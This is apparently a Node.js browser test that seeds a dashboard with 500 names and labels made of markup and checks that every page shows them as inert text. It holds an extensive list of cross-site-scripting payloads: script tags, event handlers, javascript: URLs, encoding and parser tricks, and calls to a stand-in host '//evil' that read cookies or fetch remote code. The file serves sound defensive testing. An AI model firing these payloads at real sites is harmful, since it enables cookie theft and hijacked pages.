// Five hundred names, errors, log lines and a worker that are markup: on every page they are text, and nothing of them runs.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { openBrowser, openPage, PAGES, show } from "./browser.mjs";
import { startCluster } from "./cluster.mjs";

const CODE = ["alert(1)", "window.broken=1", "fetch('//evil')", "document.cookie", "eval(name)", "top.location='//evil'", "print()", "import('//evil')", "open('//evil')", "throw 1"];
const AROUND = ["<script>%</script>", "</script><script>%</script>", "<img src=x onerror=\"%\">", "<svg onload=\"%\">", "<svg><script>%</script></svg>", "\"><b onmouseover=\"%\">x</b>",
  "' autofocus onfocus='%", "<iframe srcdoc=\"<script>%</script>\">", "<a href=\"javascript:%\">x</a>", "<body onload=\"%\">", "<style>@import '%'</style>", "<!--<script>%--></script>",
  "<math><mi xlink:href=\"javascript:%\">", "<details open ontoggle=\"%\">", "<video><source onerror=\"%\">", "<object data=\"javascript:%\">", "<base href=\"//%/\">",
  "<meta http-equiv=refresh content=\"0;javascript:%\">", "{{%}}", "${%}", "<input onfocus=\"%\" autofocus>", "&lt;script&gt;%&lt;/script&gt;", "<template><script>%</script></template>",
  "\u202e<marquee onstart=\"%\">", "]]><script>%</script>", "<form action=\"javascript:%\"><button autofocus>", "<embed src=\"javascript:%\">", "<link rel=stylesheet href=\"//evil/%\">",
  "<audio src onerror=\"%\">", "<select onfocus=\"%\" autofocus>", "<textarea autofocus onfocus=\"%\">", "<keygen autofocus onfocus=\"%\">", "<frameset onload=\"%\">", "<table background=\"javascript:%\">",
  "<isindex onfocus=\"%\">", "<img src=\"javascript:%\">", "<img srcset=x onerror=%>", "<svg><animate onbegin=\"%\">", "<svg><use href=\"data:x,%\">", "<noscript><p title=\"</noscript><img src=x onerror=%>\">",
  "javascript:%", "data:text/html,<script>%</script>", "\\x3cscript\\x3e%\\x3c/script\\x3e", "\\u003cscript\\u003e%", "%3Cscript%3E", "<scr<script>ipt>%</scr</script>ipt>", "<ſcript>%</ſcript>", "＜script＞%＜/script＞",
  "<b style=\"background:url(javascript:%)\">", "<div style=\"width:expression(%)\">"];
const names = AROUND.flatMap((around) => CODE.map((code) => around.replace("%", code)));
// All that the page makes by itself.
const OURS = new Set(["a", "abbr", "article", "b", "bdi", "body", "br", "button", "canvas", "caption", "code", "dd", "details", "dialog", "div", "dl", "dt", "em", "figcaption", "figure", "form", "g", "h1", "h2", "h3", "head", "header", "hr", "html",
  "i", "input", "kbd", "label", "legend", "li", "line", "link", "main", "meta", "meter", "nav", "noscript", "ol", "option", "output", "p", "path", "pre", "progress", "rect", "script", "section", "select", "small", "span", "strong",
  "summary", "svg", "table", "tbody", "td", "text", "th", "thead", "time", "title", "tr", "ul"]);

let cluster, browser, page;
before(async () => {
  cluster = await startCluster({ names: ["<img src=x onerror=window.broken=1>", "'\"><script>window.broken=1</script>"], labels: names });
  browser = await openBrowser();
  page = await openPage(browser, cluster.url);
  page.on("dialog", () => { page.problems.push("a dialog opened"); });
});
after(async () => {
  await browser?.close();
  await cluster?.stop();
});

test("five hundred names that are markup are text on every page", async () => {
  assert.equal(names.length, 500);
  const { groups } = await cluster.get("groups");
  const labels = new Set(Object.values(groups).map(({ label }) => label));
  assert.deepEqual(names.filter((name) => !labels.has(name)), [], "the API has every name as it was given");
  const bad = Object.keys((await cluster.get("tasks?state=failed&limit=20")).tasks);
  const addresses = [...PAGES, ...bad.slice(0, 10).map((key) => `tasks/${key}`), ...Object.keys(groups).slice(-20).map((id) => `groups/${id}`),
    `workers/${encodeURIComponent("<img src=x onerror=window.broken=1>")}`];
  for (const address of addresses) {
    await show(page, address);
    const { tags, scripts, handlers, broken } = await page.evaluate(() => ({
      tags: [...new Set([...document.querySelectorAll("*")].map(({ localName }) => localName))],
      scripts: document.querySelectorAll("noscript").length - 1 + [...document.scripts].filter(({ src }) => !src.includes("/assets/weft-")).length,
      handlers: [...document.querySelectorAll("*")].flatMap(({ attributes }) => [...attributes]).filter(({ name, value }) => /^on|^srcdoc$/.test(name) || /^\s*javascript:/i.test(name === "href" || name === "src" ? value : "")).length,
      broken: window.broken,
    }));
    assert.deepEqual(tags.filter((tag) => !OURS.has(tag)), [], address);
    assert.deepEqual([scripts, handlers, broken], [0, 0, undefined], address);
  }
  assert.deepEqual(page.problems, [], "and the browser had nothing to refuse");
});
